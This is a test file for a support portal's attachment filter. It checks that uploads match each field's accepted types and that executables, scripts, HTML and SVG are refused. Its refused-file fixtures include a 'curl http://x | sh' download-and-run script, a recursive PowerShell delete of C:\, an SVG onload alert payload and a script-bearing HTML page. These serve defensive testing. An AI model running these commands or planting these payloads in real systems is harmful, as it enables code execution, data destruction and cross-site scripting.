"""Attachment types: each form field takes what its `accept:` says, comments take the default list,
and programs, scripts and pages are refused, by extension and by content.  Through the real app,
on SQLite and PostgreSQL."""
from __future__ import annotations

import codecs
import gzip
import io
import shutil
import struct
import zipfile
import zlib

import pytest

from kbgen.tickets import filetypes
from test_tickets_support import ANN, REPO, SAM, SITE, Attachment, Portal, TicketEvent, xcally, xplany

HTML = {"Accept": "text/html,application/xhtml+xml", "Referer": f"{SITE}/support/xcally/"}


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def _zip(**members: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


PNG = _png()
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
LOG = b"[Mar  1 09:00:01] WARNING[123]: chan_sip.c: no agents available\n"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 100 + b"This program cannot be run in DOS mode"
PAGE = b"<!DOCTYPE html>\n<html><body><script>fetch('/api/me')</script></body></html>\n"
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>\n'
PCAP = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)

# Each is refused on the XCALLY technical issue's "Logs and screenshots" (files.logs), which
# accepts .log, .txt, .gz, .zip, .png, .jpg, .jpeg, .pdf.
REFUSED = {
    "a Windows program": ("tool.exe", EXE, ".exe files are programs, scripts or web pages"),
    "an SVG image": ("diagram.svg", SVG, ".svg files are programs, scripts or web pages"),
    "a web page": ("error.html", PAGE, ".html files are programs, scripts or web pages"),
    "a web page named .png": ("screenshot.png", PAGE, "its content is not a PNG image"),
    "a Linux program named .log": ("asterisk.log", ELF, "it looks like a Linux program"),
    "a program with a trailing dot": ("tool.exe.", EXE, ".exe files are programs"),
    "a type the field does not list": ("notes.docx", _zip(**{"[Content_Types].xml": b"<Types/>"}),
                                       ".docx files are not among its types"),
}


@pytest.fixture
def portal(tmp_path, database_url):
    portal = Portal(tmp_path, database_url)
    yield portal
    portal.close()


def _form(body: dict) -> dict:
    data = {k: body[k] for k in ("product", "request_type", "priority")}
    data.update({f"fields.{name}": value for name, value in body["fields"].items()})
    return data


def _post(portal: Portal, files: list[tuple[str, bytes]], body: dict | None = None, field: str = "logs", **kw):
    return portal.client(ANN).post("/api/tickets", data=_form(body or xcally()),
                                   files=[(f"files.{field}", (name, data, "application/octet-stream"))
                                          for name, data in files], **kw)


def _nothing_stored(portal: Portal) -> None:
    assert portal.count() == 0 and portal.count(Attachment) == 0
    folder = portal.settings.attachments_dir
    assert not folder.exists() or list(folder.iterdir()) == []
    assert portal.outbox() == []


@pytest.mark.parametrize("case", REFUSED)
def test_a_refused_file_is_a_422_naming_it_its_field_and_the_accepted_types_and_nothing_is_stored(portal, case):
    name, data, reason = REFUSED[case]
    response = _post(portal, [("trunk.log", LOG), (name, data)])

    assert response.status_code == 422, response.text
    body = response.json()
    assert body["detail"].startswith(f"'{name}' cannot be attached to \u201cLogs and screenshots\u201d (files.logs)")
    assert reason in body["detail"]
    assert "It accepts .log, .txt, .gz, .zip, .png, .jpg, .jpeg, .pdf" in body["detail"]
    # The form page's script shows `errors` under the file input it names.
    assert body["errors"] == [{"field": "files.logs", "message": body["detail"]}]
    assert body["accepted"] == [".log", ".txt", ".gz", ".zip", ".png", ".jpg", ".jpeg", ".pdf"]
    _nothing_stored(portal)


def test_a_form_post_without_javascript_gets_a_page_naming_the_refused_file(portal):
    response = _post(portal, [("screenshot.png", PAGE)], headers=HTML)
    assert response.status_code == 422
    assert "screenshot.png" in response.text and "Logs and screenshots" in response.text
    assert "Back to the form" in response.text
    _nothing_stored(portal)


def test_text_that_turns_binary_after_its_first_kilobytes_is_refused_and_not_kept(portal):
    disguised = LOG * 400 + ELF  # 26 KB of log lines, then a program
    assert len(LOG * 400) > filetypes.HEAD_BYTES
    response = _post(portal, [("asterisk.log", disguised)])
    assert response.status_code == 422
    assert "'asterisk.log'" in response.json()["detail"] and "its content is not text" in response.json()["detail"]
    _nothing_stored(portal)


ACCEPTED_BATCHES = [
    [("screen.png", PNG), ("photo.JPG", JPEG), ("license.pdf", PDF)],
    [("asterisk.log", LOG), ("logs.tar.gz", gzip.compress(LOG * 50)), ("logs.zip", _zip(**{"a.log": LOG}))],
    [("cp1252.txt", "Caf\u00e9 \u2013 d\u00e9j\u00e0 vu\r\n".encode("cp1252")),
     ("powershell.txt", codecs.BOM_UTF16_LE + "Get-Service\r\nRunning  W32Time\r\n".encode("utf-16-le")),
     ("syslog.log", b"<13>Mar  1 09:00:01 pbx asterisk[123]: \x1b[31mERROR\x1b[0m <script> in a URL\n")],
]


def test_the_accepted_types_are_stored_and_download_as_sent_once_a_refused_file_is_left_out(portal):
    ann = portal.client(ANN)
    for n, batch in enumerate(ACCEPTED_BATCHES, start=1):
        assert _post(portal, [*batch[:2], ("tool.exe", EXE)]).status_code == 422
        response = _post(portal, batch, body=xcally(f"Batch {n}"))
        assert response.status_code == 201, response.text
        page = ann.get(f"/api/tickets/{response.json()['key']}").json()
        assert [a["filename"] for a in page["attachments"]] == [name for name, _ in batch]
        for attachment, (_, data) in zip(page["attachments"], batch):
            assert ann.get(attachment["url"]).content == data
    assert portal.count() == len(ACCEPTED_BATCHES)


def test_another_form_takes_its_own_types(portal):
    xlsx = _zip(**{"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"})
    schedule = b"agent;date;shift\nann;2026-03-02;08:00-16:00\n"
    assert _post(portal, [("schedule.xlsx", xlsx)]).status_code == 422  # not on the XCALLY form
    response = _post(portal, [("schedule.xlsx", xlsx), ("export.csv", schedule)], body=xplany(), field="exports")
    assert response.status_code == 201, response.text
    refused = _post(portal, [("export.csv", PNG)], body=xplany(), field="exports")
    assert refused.status_code == 422
    assert "\u201cScreenshots or exported schedules\u201d (files.exports)" in refused.json()["detail"]
    assert "not a CSV file; it looks like a PNG image" in refused.json()["detail"]
    assert portal.count(Attachment) == 2


def test_the_form_definition_is_the_one_list(tmp_path, database_url):
    forms = tmp_path / "forms"
    shutil.copytree(REPO / "forms", forms)
    definition = forms / "xcally.yml"
    text = definition.read_text()
    old = "accept: [.log, .txt, .gz, .zip, .png, .jpg, .jpeg, .pdf]"
    assert text.count(old) == 1
    # A MIME wildcard, and a page type the form's author asks for by its extension.
    definition.write_text(text.replace(old, "accept: [image/*, .html]"))
    portal = Portal(tmp_path, database_url)
    portal.settings.forms_dir = forms  # before the first request, which reads the forms
    try:
        assert _post(portal, [("screen.png", PNG), ("report.html", PAGE)]).status_code == 201
        log = _post(portal, [("asterisk.log", LOG)])
        assert log.status_code == 422 and "It accepts image/*, .html;" in log.json()["detail"]
        svg = _post(portal, [("diagram.svg", SVG)])  # image/* never lets a page in
        assert svg.status_code == 422 and ".svg files are programs, scripts or web pages" in svg.json()["detail"]
        assert portal.count(Attachment) == 2
    finally:
        portal.close()


# -- comments ---------------------------------------------------------------------------------------


def _comment(portal: Portal, key: str, files: list[tuple[str, bytes]], who: str = ANN):
    return portal.client(who).post(f"/api/tickets/{key}/comments", data={"text": "Here is the file."},
                                   files=[("files", (name, data, "application/octet-stream")) for name, data in files])


@pytest.mark.parametrize("name, data, reason", [
    ("tool.exe", EXE, ".exe files are programs, scripts or web pages"),
    ("run.ps1", b"Remove-Item C:\\ -Recurse\r\n", ".ps1 files are programs, scripts or web pages"),
    ("screenshot.png", PAGE, "its content is not a PNG image; it looks like a web page or SVG image"),
    ("trace.log", ELF, "it looks like a Linux program"),
    ("install.dat", b"#!/bin/sh\ncurl http://x | sh\n", ".dat files are not among its types"),
])
def test_a_comment_with_a_refused_file_is_a_422_and_stores_nothing(portal, name, data, reason):
    key = portal.open()
    events_before = len(portal.ticket(key).events)
    for who in (ANN, SAM):  # the support team gets the same rule
        response = _comment(portal, key, [("trace.log", LOG), (name, data)], who)
        assert response.status_code == 422, response.text
        detail = response.json()["detail"]
        assert detail.startswith(f"'{name}' cannot be attached to a comment (files)") and reason in detail
        assert ", ".join(filetypes.DEFAULT_ACCEPT) in detail
        assert response.json()["errors"][0]["field"] == "files"
    assert len(portal.ticket(key).events) == events_before
    assert portal.count(Attachment) == 0
    folder = portal.settings.attachments_dir
    assert not folder.exists() or list(folder.iterdir()) == []


def test_a_comment_takes_the_default_types_and_they_download_as_sent(portal):
    key = portal.open()
    files = [("sip.pcap", PCAP), ("plan.docx", _zip(**{"[Content_Types].xml": b"<Types/>"})), ("screen.png", PNG)]
    assert _comment(portal, key, [*files, ("page.htm", PAGE)]).status_code == 422
    response = _comment(portal, key, files)
    assert response.status_code == 201, response.text
    ann = portal.client(ANN)
    for attachment, (name, data) in zip(response.json()["attachments"], files):
        assert attachment["filename"] == name
        assert ann.get(attachment["url"]).content == data
    with portal.Session() as db:
        assert db.query(TicketEvent).filter(TicketEvent.kind == "comment").count() == 1
